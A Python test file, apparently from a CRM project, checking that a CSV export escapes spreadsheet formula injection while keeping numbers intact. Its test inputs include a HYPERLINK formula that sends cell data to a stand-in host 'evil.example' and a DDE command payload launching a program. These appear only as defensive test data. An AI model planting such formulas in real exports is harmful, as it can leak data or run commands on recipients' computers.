"""CSV export that a spreadsheet opens safely: formulas neutralised, numbers kept."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crmdesk.domain.csvsafe import FORMULA_START, csv_cell, write_csv


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# --- csv_cell -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "+cmd",
        "-2+3",
        "-Sales team",
        "--1",
        "@SUM(A1)",
        "@",
        "=",
        "+",
        "-",
        "\t=1+1",
        "\tplain after a tab",
        "\r=1+1",
        "\rtext",
        "- 5",
        "-5 ",
        "+3 apples",
        "-inf",
        "+nan",
        "-1_000",  # float() reads it; a spreadsheet does not
        "-١٢",  # Arabic-Indic digits: float() reads them, a spreadsheet does not
        "-0x1F",
        "-1e",
        "-.",
        "-1.2.3",
        "-12,50",
        "+1\n=1",
    ],
)
def test_formula_like_text_gets_a_quote(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("first", FORMULA_START)
def test_every_dangerous_first_character(first: str) -> None:
    assert FORMULA_START == ("=", "+", "-", "@", "\t", "\r")
    assert csv_cell(first + "x") == "'" + first + "x"
    assert csv_cell("x" + first) == "x" + first  # only the first character counts


@pytest.mark.parametrize(
    "value",
    [
        "-12.50",
        "+3",
        "-0.25",
        "-0",
        "+0.00",
        "-7",
        "-.5",
        "-5.",
        "-1e-05",
        "+1E+3",
        "-2.5e10",
        "12.50",
        "0",
        "1e-05",
    ],
)
def test_plain_numbers_stay_numbers(value: str) -> None:
    assert csv_cell(value) == value


@pytest.mark.parametrize(
    "value",
    [
        "",
        "Acme, Inc.",
        'He said "hi"',
        "two\nlines",
        "'=already quoted",
        " =leading space",
        "1+1",
        "a=b",
        "e-mail",
        "华东销售部",
        "张伟",
        "＝全角等号",
        "#REF!",
    ],
)
def test_other_text_is_unchanged(value: str) -> None:
    assert csv_cell(value) == value


@given(st.text())
def test_escaping_adds_at_most_one_quote_in_front(value: str) -> None:
    out = csv_cell(value)
    assert out in (value, "'" + value)
    if out.startswith(FORMULA_START):  # left alone only when it is a plain number
        assert Decimal(out).is_finite()


@given(st.decimals(allow_nan=False, allow_infinity=False))
def test_every_decimal_and_float_stays_a_number(x: Decimal) -> None:
    for text in (str(x), format(x, "f"), repr(float(x)), str(int(x))):
        if text not in ("inf", "-inf"):
            assert csv_cell(text) == text


# --- write_csv ------------------------------------------------------------------------------


def test_write_csv_escapes_every_cell_and_keeps_numbers() -> None:
    text = write_csv(
        [
            ["=1+1", -12.5, Decimal("-3.00"), None, "@SUM(A1)"],
            ["+cmd", 7, Decimal("0.25"), True, "-Sales"],
        ],
        header=["name", "delta", "amount", "flag", "=header"],
    )
    assert _read(text) == [
        ["name", "delta", "amount", "flag", "'=header"],
        ["'=1+1", "-12.5", "-3.00", "", "'@SUM(A1)"],
        ["'+cmd", "7", "0.25", "True", "'-Sales"],
    ]
    assert text.endswith("\n") and "\r" not in text


def test_write_csv_quotes_commas_quotes_and_line_breaks() -> None:
    rows = [
        ["Acme, Inc.", 'The "big" one', "line one\nline two", "carriage\r\nreturn"],
        ["", " ", ",", '"'],
    ]
    text = write_csv(rows, ["a", "b", "c", "d"])
    assert _read(text) == [["a", "b", "c", "d"], *rows]


def test_write_csv_quotes_a_lone_carriage_return() -> None:
    # with "\n" as the line end, the csv module alone would leave "a\rb" bare
    text = write_csv([["a\rb", "\r=1+1", "x"]], ["p", "q", "r"])
    assert text == 'p,q,r\n"a\rb","\'\r=1+1",x\n'
    assert _read(text) == [["p", "q", "r"], ["a\rb", "'\r=1+1", "x"]]


def test_write_csv_keeps_chinese_text() -> None:
    rows = [["上海星辰科技有限公司", "张伟", "=求和(A1)", "-5", "１２"]]
    text = write_csv(rows, ["客户", "负责人", "公式", "差额", "全角数字"])
    assert "上海星辰科技有限公司" in text
    assert _read(text) == [
        ["客户", "负责人", "公式", "差额", "全角数字"],
        ["上海星辰科技有限公司", "张伟", "'=求和(A1)", "-5", "１２"],
    ]


def test_write_csv_with_no_rows_is_the_header_line() -> None:
    assert write_csv([], ["owner", "won_amount"]) == "owner,won_amount\n"
    assert write_csv(iter([("x",)]), ["a"]) == "a\nx\n"  # any iterable of sequences


@given(st.lists(st.lists(st.text(), min_size=3, max_size=3), max_size=5))
def test_write_csv_round_trips_up_to_the_escape(rows: list[list[str]]) -> None:
    back = _read(write_csv(rows, ["a", "b", "c"]))
    assert back[0] == ["a", "b", "c"]
    assert back[1:] == [[csv_cell(v) for v in row] for row in rows]
